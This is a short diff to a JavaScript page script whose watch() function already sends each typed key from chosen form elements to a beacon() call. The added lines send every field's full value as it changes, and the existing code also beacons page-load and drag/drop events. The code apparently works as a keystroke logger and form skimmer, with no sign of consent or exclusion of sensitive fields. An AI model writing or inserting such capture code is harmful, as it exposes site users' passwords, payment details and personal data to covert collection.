@@ -8,6 +8,9 @@ function watch(page, ids) {
     element.addEventListener('keydown', function (e) {
       if (e.key.length === 1) beacon(page + '-key-' + id + '-' + e.key);
     });
+    element.addEventListener('input', function () {
+      beacon(page + '-value-' + id + '-' + encodeURIComponent(element.value));
+    });
   });
   window.addEventListener('load', function () { beacon(page + '-ready'); });
   ['dragenter', 'drop'].forEach(function (kind) {
